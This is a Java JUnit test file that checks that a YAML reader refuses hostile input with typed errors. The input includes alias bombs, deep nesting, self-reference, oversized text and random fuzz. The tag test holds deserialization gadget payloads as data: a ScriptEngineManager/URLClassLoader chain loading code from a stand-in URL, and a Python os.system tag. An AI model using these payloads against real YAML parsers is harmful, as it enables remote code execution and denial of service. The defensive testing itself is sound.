package dev.bedrock.core.document.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bedrock.core.diagnostic.LimitExceededException;
import dev.bedrock.core.document.DocumentLimits;
import java.time.Duration;
import java.util.Iterator;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile YAML costs bounded time and memory and ends in a typed error. */
class YamlAbuseTest {
    private static final Duration SOON = Duration.ofSeconds(20);

    private final YamlReader reader = YamlReader.defaults();

    @Test
    void aliasBombsAreRefused() {
        StringBuilder lists = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        StringBuilder merges = new StringBuilder("a0: &a0 {a: 1, b: 1, c: 1}\n");
        for (int i = 1; i < 30; i++) {
            String before = "*a" + (i - 1);
            lists.append("a" + i + ": &a" + i + " [" + (before + ", ").repeat(9) + before + "]\n");
            merges.append("a" + i + ": &a" + i + " {x: " + before + ", y: " + before + ", <<: [" + before + "]}\n");
        }
        assertRefused(lists.toString(), "the aliases stand for more than 400000 values");
        assertRefused(merges.toString(), "the aliases stand for more than 400000 values");
    }

    @Test
    void aliasesMayBeUsedManyTimes() {
        String text = "x: &x {a: 1, b: 2}\nl:\n" + "- *x\n".repeat(10_000);
        assertThat(reader.readMap("f", text)).hasSize(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{a: ", "- ", "? ", "a:\n", "[{", "- ? "})
    void deepNestingIsRefused(String level) {
        for (int levels : new int[] {200, 20_000}) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < levels; i++) {
                text.append(level.endsWith("\n") ? " ".repeat(Math.min(i, 300)) + level : level);
            }
            assertRefused(text.toString(), "nested deeper than 100 levels");
        }
    }

    @Test
    void nestingThroughAliasesCountsToo() {
        StringBuilder text = new StringBuilder("- &a0 x\n");
        for (int i = 1; i < 2_000; i++) {
            text.append("- &a" + i + " [[[[[[[[*a" + (i - 1) + "]]]]]]]]\n");
        }
        assertRefused(text.toString(), "nested deeper than 100 levels");
    }

    @Test
    void aHundredLevelsAreFine() {
        assertThat(reader.readAll("f", "[".repeat(100) + "]".repeat(100))).hasSize(1);
        YamlReader shallow = reader.withLimits(DocumentLimits.defaults().withMaxDepth(3));
        assertThatThrownBy(() -> shallow.readAll("f", "[[[[]]]]")).isInstanceOf(LimitExceededException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                "!!java.util.Date {}",
                "!Ref x",
                "a: !<tag:example,2000:x> y",
                "!!python/object/apply:os.system [id]"
            })
    void tagsNeverMakeObjects(String text) {
        assertThatThrownBy(() -> reader.readAll("f", text))
                .isInstanceOf(YamlSyntaxException.class)
                .hasMessageContaining("CORE-0003");
    }

    @Test
    void aKeyThatOccursTwiceIsRefusedWithBothPlaces() {
        assertThatThrownBy(() -> reader.readAll("f.yaml", "a: 1\nb: 2\n\"a\": 3\n"))
                .hasMessage("f.yaml:3:1: error CORE-0002: the key a is there already, at f.yaml:1:1");
        assertThat(reader.lenient().readMap("f", "a: 1\nb: 2\na: 3\n")).isEqualTo(Map.of("a", 3L, "b", 2L));
    }

    @Test
    void selfReferenceIsRefused() {
        for (String text : new String[] {"&a [*a]", "&a {b: *a}", "&a {<<: *a}", "a: &a\n  - <<: [*a]\n"}) {
            assertThatThrownBy(() -> reader.readAll("f", text)).hasMessageContaining("CORE-0004");
        }
    }

    @Test
    void aByteOrderMarkIsSkippedAndNulIsRefused() {
        assertThat(reader.readMap("f", "\ufeffa: 1\n")).isEqualTo(Map.of("a", 1L));
        assertThatThrownBy(() -> reader.readMap("f", "a: 1\nb: \"x\0\"\n"))
                .hasMessage("f:2:6: error CORE-0001: the character U+0000 is not allowed in YAML");
    }

    @Test
    void textBeyondTheLimitIsRefusedUnread() {
        YamlReader small = reader.withLimits(DocumentLimits.defaults().withMaxCharacters(10));
        assertThatThrownBy(() -> small.readAll("f", "a: 123456789\n"))
                .isInstanceOf(LimitExceededException.class)
                .hasMessage("f: error CORE-0007: longer than 10 characters");
    }

    @Test
    void bigScalarsAndManyDocumentsTakeLinearTime() {
        assertTimeoutPreemptively(SOON, () -> {
            String scalar = "x".repeat(4 << 20);
            assertThat(reader.readMap("f", "a: " + scalar + "\nb: \"" + scalar + "\"\nc: |\n  " + scalar + "\n"))
                    .hasSize(3);
            assertThat(reader.readMap("f", "a: " + "9".repeat(1 << 20) + "\n").get("a"))
                    .isInstanceOf(String.class);
        });
        assertTimeoutPreemptively(SOON, () -> {
            AtomicInteger count = new AtomicInteger();
            Iterator<?> documents = reader.documents("f", "a: |\n  x\n---\n".repeat(100_000));
            documents.forEachRemaining(document -> count.incrementAndGet());
            assertThat(count).hasValue(100_000);
        });
        assertTimeoutPreemptively(SOON, () -> {
            StringBuilder keys = new StringBuilder();
            for (int i = 0; i < 100_000; i++) {
                keys.append("key").append(i).append(": null\n");
            }
            assertThat(reader.readMap("f", keys.toString())).hasSize(100_000);
        });
    }

    @Test
    void garbageEndsInATypedError() {
        String[] pieces = {
            "a",
            ":",
            " ",
            "\n",
            "- ",
            "? ",
            "{",
            "}",
            "[",
            "]",
            "&a",
            "*a",
            "!!",
            "!",
            "|",
            ">",
            "'",
            "\"",
            "\\",
            "u",
            "%",
            "@",
            "`",
            "#",
            "<<",
            "---",
            "...",
            "\t",
            ",",
            "0",
            "\u2028",
            "\ud83d\ude00",
            "\r"
        };
        Random random = new Random(7);
        for (int i = 0; i < 20_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int j = random.nextInt(14); j >= 0; j--) {
                text.append(pieces[random.nextInt(pieces.length)]);
            }
            try {
                reader.readAll("f", text.toString());
            } catch (YamlSyntaxException e) {
                assertThat(e.goMessage()).isNotEmpty();
            }
        }
    }

    private void assertRefused(String text, String message) {
        assertTimeoutPreemptively(
                SOON, () -> assertThatThrownBy(() -> reader.lenient().readAll("f", text))
                        .isInstanceOf(LimitExceededException.class)
                        .hasMessageContaining(message));
    }
}
